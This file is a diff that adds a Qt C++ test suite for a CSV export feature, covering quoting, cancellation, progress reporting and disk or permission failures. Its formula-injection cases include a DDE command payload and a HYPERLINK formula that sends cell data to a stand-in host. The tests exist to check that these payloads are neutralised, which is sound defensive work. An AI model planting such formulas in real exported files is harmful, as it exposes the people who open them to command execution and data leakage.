@@ -1,0 +1,532 @@
+// SPDX-FileCopyrightText: 2026 The UserDesk authors
+// SPDX-License-Identifier: MIT
+
+#include <algorithm>
+#include <memory>
+
+#include <QDir>
+#include <QElapsedTimer>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QProcess>
+#include <QScopeGuard>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QTimer>
+
+#ifdef Q_OS_LINUX
+#include <csignal>
+#include <sys/mount.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <unistd.h>
+#endif
+
+#include "directory/csvexport.h"
+
+using namespace Qt::StringLiterals;
+using namespace userdesk;
+
+using Outcome = CsvExport::Outcome;
+
+namespace {
+
+constexpr auto before = "what was there before";
+
+CsvExport::Source table(const QList<QStringList> &rows)
+{
+    return {{u"Name"_s, u"Company"_s}, rows.size(), [rows](qsizetype row) { return rows[row]; }};
+}
+
+CsvExport::Source manyRows(qsizetype count)
+{
+    return {{u"Name"_s, u"User name"_s, u"Company"_s, u"Last change"_s}, count, [](qsizetype row) {
+                return QStringList{u"Işık, \"%1\""_s.arg(row), u"user%1@example.com"_s.arg(row), u"Größe & Söhne"_s,
+                                   u"2026-01-02 03:04"_s};
+            }};
+}
+
+QByteArray contents(const QString &path)
+{
+    QFile file(path);
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : "(no file)";
+}
+
+void putFile(const QString &path)
+{
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly));
+    file.write(before);
+}
+
+QStringList filesIn(const QString &folder)
+{
+    return QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System);
+}
+
+/// The records as Python's csv module reads them, which knows nothing of our writer.
+QList<QStringList> recordsRead(const QString &path, const QString &encoding = u"utf-8"_s)
+{
+    const QString script = u"import csv, json, sys\n"
+                           "with open(sys.argv[1], encoding=sys.argv[2], newline='') as file:\n"
+                           "    json.dump(list(csv.reader(file, strict=True)), sys.stdout)\n"_s;
+    QProcess python;
+    python.start(u"/usr/bin/python3"_s, {u"-I"_s, u"-c"_s, script, path, encoding});
+    if (!python.waitForFinished() || python.exitCode() != 0) {
+        qWarning() << python.readAllStandardError();
+        return {};
+    }
+    QList<QStringList> records;
+    const QJsonArray read = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+    for (const QJsonValue record : read) {
+        records.append(record.toVariant().toStringList());
+    }
+    return records;
+}
+
+/// Runs an export to its end.
+Outcome outcomeOf(CsvExport &exporting)
+{
+    QSignalSpy finished(&exporting, &CsvExport::finished);
+    exporting.start();
+    if (finished.isEmpty() && !finished.wait(60'000)) {
+        return {Outcome::Failed, u"The export never ended."_s};
+    }
+    return finished.first().first().value<Outcome>();
+}
+
+Outcome outcomeOf(const CsvExport::Source &source, const CsvExport::Target &target)
+{
+    CsvExport exporting(source, target);
+    return outcomeOf(exporting);
+}
+
+} // namespace
+
+class TestCsvExport : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void init();
+
+    void writesTheBytesOfTheStandard();
+    void byteOrderMarkIsOptional();
+    void cellsComeBackFromAnotherReader();
+    void noCellIsAFormula_data();
+    void noCellIsAFormula();
+    void cellsWithoutDangerStayAsTheyAre_data();
+    void cellsWithoutDangerStayAsTheyAre();
+    void headerAndCellsAreGuarded();
+    void unprintableCharactersAreShown();
+    void hugeCellsTakeNoTime();
+
+    void anEmptyTableIsItsHeader();
+    void replacesTheFileThatWasThere();
+    void tellsHowFarItIs();
+    void endsOnce();
+    void leavesTheProgramAlive();
+    void cancelLeavesNothing();
+    void cancelFromItsOwnProgress();
+    void destroyedInItsOwnProgress();
+    void endOfTheProgramLeavesNothing();
+
+    void namesWhatCannotBeWritten();
+    void devicesAreLeftAlone();
+#ifdef Q_OS_LINUX
+    void folderWithoutPermission();
+    void fileWithoutPermission();
+    void fileThatGrowsTooLarge();
+    void fullDisk();
+#endif
+
+private:
+    QString path(const QString &name = u"users.csv"_s) const
+    {
+        return m_folder->filePath(name);
+    }
+
+    std::unique_ptr<QTemporaryDir> m_folder;
+};
+
+void TestCsvExport::init()
+{
+    m_folder = std::make_unique<QTemporaryDir>();
+    QVERIFY(m_folder->isValid());
+}
+
+void TestCsvExport::writesTheBytesOfTheStandard()
+{
+    const auto rows = table({{u"Ada"_s, u"a,b"_s}, {u"say \"hi\""_s, {}}, {u"two\nlines"_s, u"Ü"_s}});
+    QCOMPARE(outcomeOf(rows, {path()}).kind, Outcome::Written);
+    QCOMPARE(contents(path()), "Name,Company\r\nAda,\"a,b\"\r\n\"say \"\"hi\"\"\",\r\n\"two\nlines\",\xC3\x9C\r\n"_ba);
+}
+
+void TestCsvExport::byteOrderMarkIsOptional()
+{
+    QCOMPARE(outcomeOf(table({}), {path(), true}).kind, Outcome::Written);
+    QCOMPARE(contents(path()), "\xEF\xBB\xBFName,Company\r\n"_ba);
+    QCOMPARE(recordsRead(path(), u"utf-8-sig"_s), (QList<QStringList>{{u"Name"_s, u"Company"_s}}));
+}
+
+void TestCsvExport::cellsComeBackFromAnotherReader()
+{
+    const QList<QStringList> rows{
+        {u"comma, \"quotes\", both"_s, u"\""_s},
+        {u"\"\""_s, u","_s},
+        {u"line\nfeed"_s, u"carriage\rreturn"_s},
+        {u"both\r\n"_s, u"tab\there"_s},
+        {{}, u" blanks "_s},
+        {u"Işık İĞÜ ß"_s, u"\U0001F9D1\u200D\U0001F680 ＡＢＣ \u202Etxt.exe\u202C"_s},
+        {u"e\u0301"_s, u"semi;colon"_s},
+        {u"x"_s.repeated(100'000), u"\",\r\n"_s.repeated(1'000).prepend(u'x')},
+    };
+    QCOMPARE(outcomeOf(table(rows), {path()}).kind, Outcome::Written);
+    const QList<QStringList> read = recordsRead(path());
+    QCOMPARE(read.size(), rows.size() + 1);
+    QCOMPARE(read.mid(1), rows);
+}
+
+void TestCsvExport::noCellIsAFormula_data()
+{
+    QTest::addColumn<QString>("cell");
+    QTest::addColumn<QString>("written");
+
+    QTest::newRow("equals") << u"=1+1"_s << u"'=1+1"_s;
+    QTest::newRow("plus") << u"+1"_s << u"'+1"_s;
+    QTest::newRow("minus") << u"-1"_s << u"'-1"_s;
+    QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
+    QTest::newRow("program") << u"=cmd|' /C calc'!A0"_s << u"'=cmd|' /C calc'!A0"_s;
+    QTest::newRow("link") << u"=HYPERLINK(\"http://x/?\"&A1,\"x\")"_s << u"'=HYPERLINK(\"http://x/?\"&A1,\"x\")"_s;
+    QTest::newRow("tab") << u"\tx"_s << u"'\tx"_s;
+    QTest::newRow("carriage return") << u"\rx"_s << u"'\rx"_s;
+    QTest::newRow("line feed") << u"\nx"_s << u"'\nx"_s;
+    QTest::newRow("behind blanks") << u"  =1"_s << u"'  =1"_s;
+    QTest::newRow("behind wide blanks") << u"\u00A0\u3000=1"_s << u"'\u00A0\u3000=1"_s;
+    QTest::newRow("behind invisible") << u"\u200B\uFEFF\u202E=1"_s << u"'\u200B\uFEFF\u202E=1"_s;
+    QTest::newRow("behind a quote") << u"\"=1"_s << u"'\"=1"_s;
+    QTest::newRow("behind tab") << u"\t=1"_s << u"'\t'=1"_s;
+    QTest::newRow("wide equals") << u"＝1"_s << u"'＝1"_s;
+    QTest::newRow("wide plus") << u"＋1"_s << u"'＋1"_s;
+    QTest::newRow("wide minus") << u"－1"_s << u"'－1"_s;
+    QTest::newRow("wide at") << u"＠x"_s << u"'＠x"_s;
+    QTest::newRow("small equals") << u"\uFE66x"_s << u"'\uFE66x"_s;
+    QTest::newRow("phone") << u"+90 555 1234567"_s << u"'+90 555 1234567"_s;
+    QTest::newRow("other separator") << u"a;=1"_s << u"a;'=1"_s;
+    QTest::newRow("other separator, quote") << u"a; \"=1"_s << u"a; \"'=1"_s;
+    QTest::newRow("other separator, twice") << u"a;-1;@x"_s << u"a;'-1;'@x"_s;
+    QTest::newRow("second line") << u"a\n=1"_s << u"a\n'=1"_s;
+    QTest::newRow("second column") << u"a\t+1"_s << u"a\t'+1"_s;
+}
+
+void TestCsvExport::noCellIsAFormula()
+{
+    QFETCH(QString, cell);
+    QFETCH(QString, written);
+    QCOMPARE(CsvWriter::guarded(cell), written);
+}
+
+void TestCsvExport::cellsWithoutDangerStayAsTheyAre_data()
+{
+    QTest::addColumn<QString>("cell");
+
+    QTest::newRow("empty") << QString();
+    QTest::newRow("name") << u"Jean-Luc O'Neil"_s;
+    QTest::newRow("mail") << u"a+b@example.com"_s;
+    QTest::newRow("list") << u"admin; support"_s;
+    QTest::newRow("comma") << u"a, -b"_s;
+    QTest::newRow("number") << u"0090 555"_s;
+    QTest::newRow("dash") << u"—"_s;
+}
+
+void TestCsvExport::cellsWithoutDangerStayAsTheyAre()
+{
+    QFETCH(QString, cell);
+    QCOMPARE(CsvWriter::guarded(cell), cell);
+    QCOMPARE(CsvWriter::printable(cell), cell);
+}
+
+void TestCsvExport::headerAndCellsAreGuarded()
+{
+    const CsvExport::Source source{{u"=A"_s, u"B"_s}, 1, [](qsizetype) {
+                                       return QStringList{u"x"_s, u"=HYPERLINK(\"http://x/\",\"x\")"_s};
+                                   }};
+    QCOMPARE(outcomeOf(source, {path()}).kind, Outcome::Written);
+    QCOMPARE(recordsRead(path()),
+             (QList<QStringList>{{u"'=A"_s, u"B"_s}, {u"x"_s, u"'=HYPERLINK(\"http://x/\",\"x\")"_s}}));
+}
+
+void TestCsvExport::unprintableCharactersAreShown()
+{
+    const QString cell = u"a\0b\x1B[31m\x7F\u0085"_s + QChar(0xD800) + u"z"_s + QChar(0xDC00);
+    QCOMPARE(CsvWriter::printable(cell), u"a\uFFFDb\uFFFD[31m\uFFFD\uFFFD\uFFFDz\uFFFD"_s);
+    QCOMPARE(outcomeOf(table({{cell, u"\0=1"_s}}), {path()}).kind, Outcome::Written);
+    QCOMPARE(recordsRead(path()).value(1),
+             (QStringList{u"a\uFFFDb\uFFFD[31m\uFFFD\uFFFD\uFFFDz\uFFFD"_s, u"\uFFFD=1"_s}));
+}
+
+void TestCsvExport::hugeCellsTakeNoTime()
+{
+    QElapsedTimer timer;
+    timer.start();
+    const QString guarded = CsvWriter::guarded(u"\n;"_s.repeated(1'000'000) + u"="_s);
+    QVERIFY(guarded.endsWith(u";'="_s));
+    QVERIFY2(timer.elapsed() < 5'000, qPrintable(u"%1 ms"_s.arg(timer.elapsed())));
+}
+
+void TestCsvExport::anEmptyTableIsItsHeader()
+{
+    QCOMPARE(outcomeOf(table({}), {path()}).kind, Outcome::Written);
+    QCOMPARE(contents(path()), "Name,Company\r\n"_ba);
+}
+
+void TestCsvExport::replacesTheFileThatWasThere()
+{
+    putFile(path());
+    CsvExport exporting(manyRows(50'000), {path()});
+    QSignalSpy progress(&exporting, &CsvExport::progress);
+    connect(&exporting, &CsvExport::progress, this, [this] { QCOMPARE(contents(path()), before); });
+    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
+    QVERIFY(progress.size() > 1);
+    QCOMPARE(recordsRead(path()).size(), 50'001);
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+}
+
+void TestCsvExport::tellsHowFarItIs()
+{
+    CsvExport exporting(manyRows(50'000), {path()});
+    QSignalSpy progress(&exporting, &CsvExport::progress);
+    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
+    qint64 last = -1;
+    for (const QList<QVariant> &told : std::as_const(progress)) {
+        QVERIFY(told[0].toLongLong() > last);
+        last = told[0].toLongLong();
+        QCOMPARE(told[1].toLongLong(), 50'000);
+    }
+    QCOMPARE(last, 50'000);
+}
+
+void TestCsvExport::endsOnce()
+{
+    CsvExport exporting(manyRows(10), {path()});
+    QSignalSpy finished(&exporting, &CsvExport::finished);
+    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
+    exporting.cancel();
+    exporting.start();
+    QCoreApplication::processEvents();
+    QCOMPARE(finished.size(), 1);
+    QCOMPARE(recordsRead(path()).size(), 11);
+}
+
+void TestCsvExport::leavesTheProgramAlive()
+{
+    QElapsedTimer sinceTick;
+    qint64 longest = 0;
+    QTimer ticks;
+    connect(&ticks, &QTimer::timeout, this, [&] { longest = std::max(longest, sinceTick.restart()); });
+    // What is measured is the export, not how long the disk of a busy machine lets it wait: in memory where that can
+    // be, and up to the last step, which waits until all is on the disk.
+    const QTemporaryDir memory(u"/dev/shm/tst_csvexport-XXXXXX"_s);
+    CsvExport exporting(manyRows(100'000), {memory.isValid() ? memory.filePath(u"users.csv"_s) : path()});
+    connect(&exporting, &CsvExport::progress, &ticks, [&](qint64 done, qint64 total) {
+        longest = std::max(longest, sinceTick.elapsed());
+        if (done == total) {
+            ticks.stop();
+        }
+    });
+    sinceTick.start();
+    ticks.start(1);
+    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
+    qInfo("The longest gap was %lld ms.", longest);
+    QVERIFY2(longest < 200, qPrintable(u"%1 ms"_s.arg(longest)));
+}
+
+void TestCsvExport::cancelLeavesNothing()
+{
+    putFile(path(u"kept.csv"_s));
+    for (const QString &name : {u"users.csv"_s, u"kept.csv"_s}) {
+        CsvExport exporting(manyRows(1'000'000), {path(name)});
+        QSignalSpy finished(&exporting, &CsvExport::finished);
+        QSignalSpy progress(&exporting, &CsvExport::progress);
+        exporting.start();
+        QTRY_VERIFY(progress.size() >= 3);
+        exporting.cancel();
+        exporting.cancel();
+        QCOMPARE(finished.size(), 1);
+        QCOMPARE(finished.first().first().value<Outcome>().kind, Outcome::Cancelled);
+        QCOMPARE(filesIn(m_folder->path()), QStringList{u"kept.csv"_s});
+        const qsizetype told = progress.size();
+        QCoreApplication::processEvents();
+        QCOMPARE(progress.size(), told);
+    }
+    QCOMPARE(contents(path(u"kept.csv"_s)), before);
+}
+
+void TestCsvExport::cancelFromItsOwnProgress()
+{
+    CsvExport exporting(manyRows(1'000), {path()});
+    connect(&exporting, &CsvExport::progress, &exporting, &CsvExport::cancel);
+    QCOMPARE(outcomeOf(exporting).kind, Outcome::Cancelled);
+    QCOMPARE(filesIn(m_folder->path()), QStringList());
+}
+
+void TestCsvExport::destroyedInItsOwnProgress()
+{
+    auto exporting = std::make_unique<CsvExport>(manyRows(100'000), CsvExport::Target{path()});
+    connect(exporting.get(), &CsvExport::progress, this, [&exporting] { exporting.reset(); });
+    exporting->start();
+    QTRY_VERIFY(!exporting);
+    QCOMPARE(filesIn(m_folder->path()), QStringList());
+}
+
+void TestCsvExport::endOfTheProgramLeavesNothing()
+{
+    putFile(path());
+    {
+        QObject program;
+        auto *exporting = new CsvExport(manyRows(1'000'000), {path()}, &program);
+        QSignalSpy progress(exporting, &CsvExport::progress);
+        exporting->start();
+        QTRY_VERIFY(progress.size() >= 2);
+    }
+    QCOMPARE(contents(path()), before);
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+}
+
+void TestCsvExport::namesWhatCannotBeWritten()
+{
+    const Outcome folder = outcomeOf(manyRows(3), {m_folder->path()});
+    QCOMPARE(folder.kind, Outcome::Failed);
+    QCOMPARE(folder.words,
+             u"%1 is a folder. Choose a name for the file."_s.arg(QDir::toNativeSeparators(m_folder->path())));
+
+    const Outcome missing = outcomeOf(manyRows(3), {path(u"none/users.csv"_s)});
+    QCOMPARE(missing.kind, Outcome::Failed);
+    QCOMPARE(missing.words, u"There is no folder %1."_s.arg(QDir::toNativeSeparators(path(u"none"_s))));
+
+    putFile(path(u"file"_s));
+    const Outcome noFolder = outcomeOf(manyRows(3), {path(u"file/users.csv"_s)});
+    QCOMPARE(noFolder.kind, Outcome::Failed);
+    QCOMPARE(noFolder.words, u"%1 isn't a folder."_s.arg(QDir::toNativeSeparators(path(u"file"_s))));
+
+    const Outcome longName = outcomeOf(manyRows(3), {path(u"n"_s.repeated(5'000))});
+    QCOMPARE(longName.kind, Outcome::Failed);
+    QVERIFY(longName.words.contains(u"can't be written"_s));
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"file"_s});
+}
+
+void TestCsvExport::devicesAreLeftAlone()
+{
+#ifdef Q_OS_LINUX
+    QVERIFY(mkfifo(QFile::encodeName(path(u"pipe"_s)).constData(), 0600) == 0);
+    const Outcome outcome = outcomeOf(manyRows(3), {path(u"pipe"_s)});
+    QCOMPARE(outcome.kind, Outcome::Failed);
+    QVERIFY(outcome.words.contains(u"isn't an ordinary file"_s));
+    struct stat there { };
+    QVERIFY(stat(QFile::encodeName(path(u"pipe"_s)).constData(), &there) == 0 && S_ISFIFO(there.st_mode));
+#endif
+}
+
+#ifdef Q_OS_LINUX
+namespace {
+
+/// Takes the superuser's rights away for as long as it lives; other users have none to begin with.
+[[nodiscard]] auto withoutRights()
+{
+    constexpr uid_t nobody = 65534;
+    const bool wasRoot = geteuid() == 0;
+    if (wasRoot && setresuid(nobody, nobody, 0) != 0) {
+        qFatal("The rights can't be given up.");
+    }
+    return qScopeGuard([wasRoot] {
+        if (wasRoot && setresuid(0, 0, 0) != 0) {
+            qFatal("The rights don't come back.");
+        }
+    });
+}
+
+/// No file may grow beyond this many bytes while it lives.
+[[nodiscard]] auto withFilesUpTo(rlim_t bytes)
+{
+    rlimit old{};
+    getrlimit(RLIMIT_FSIZE, &old);
+    const rlimit small{bytes, old.rlim_max};
+    const auto handler = std::signal(SIGXFSZ, SIG_IGN);
+    setrlimit(RLIMIT_FSIZE, &small);
+    return qScopeGuard([old, handler] {
+        setrlimit(RLIMIT_FSIZE, &old);
+        std::signal(SIGXFSZ, handler);
+    });
+}
+
+void setMode(const QString &path, mode_t mode)
+{
+    QVERIFY(chmod(QFile::encodeName(path).constData(), mode) == 0);
+}
+
+} // namespace
+
+void TestCsvExport::folderWithoutPermission()
+{
+    putFile(path());
+    setMode(m_folder->path(), 0555);
+    Outcome outcome;
+    {
+        const auto rights = withoutRights();
+        outcome = outcomeOf(manyRows(3), {path(u"new.csv"_s)});
+    }
+    setMode(m_folder->path(), 0755);
+    QCOMPARE(outcome.kind, Outcome::Failed);
+    QCOMPARE(outcome.words, u"You may not write into the folder %1."_s.arg(m_folder->path()));
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+}
+
+void TestCsvExport::fileWithoutPermission()
+{
+    putFile(path());
+    setMode(path(), 0444);
+    setMode(m_folder->path(), 0777);
+    Outcome outcome;
+    {
+        const auto rights = withoutRights();
+        outcome = outcomeOf(manyRows(3), {path()});
+    }
+    QCOMPARE(outcome.kind, Outcome::Failed);
+    QCOMPARE(outcome.words, u"You may not change the file %1."_s.arg(path()));
+    QCOMPARE(contents(path()), before);
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+}
+
+void TestCsvExport::fileThatGrowsTooLarge()
+{
+    putFile(path());
+    Outcome outcome;
+    {
+        const auto limit = withFilesUpTo(100'000);
+        outcome = outcomeOf(manyRows(50'000), {path()});
+    }
+    QCOMPARE(outcome.kind, Outcome::Failed);
+    QVERIFY2(outcome.words.endsWith(u"can't be written: File too large."_s), qPrintable(outcome.words));
+    QCOMPARE(contents(path()), before);
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+}
+
+void TestCsvExport::fullDisk()
+{
+    const QByteArray disk = QFile::encodeName(m_folder->path());
+    if (mount("tmpfs", disk.constData(), "tmpfs", 0, "size=128k") != 0) {
+        QSKIP("Only the superuser can make a small disk; fileThatGrowsTooLarge() is the same without one.");
+    }
+    const auto unmount = qScopeGuard([&disk] { umount(disk.constData()); });
+    putFile(path());
+    const Outcome outcome = outcomeOf(manyRows(50'000), {path()});
+    QCOMPARE(outcome.kind, Outcome::Failed);
+    QCOMPARE(outcome.words, u"There isn't enough space on the disk for %1."_s.arg(path()));
+    QCOMPARE(contents(path()), before);
+    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
+    QCOMPARE(outcomeOf(manyRows(100), {path()}).kind, Outcome::Written); // the space is free again
+}
+#endif
+
+QTEST_GUILESS_MAIN(TestCsvExport)
+#include "tst_csvexport.moc"
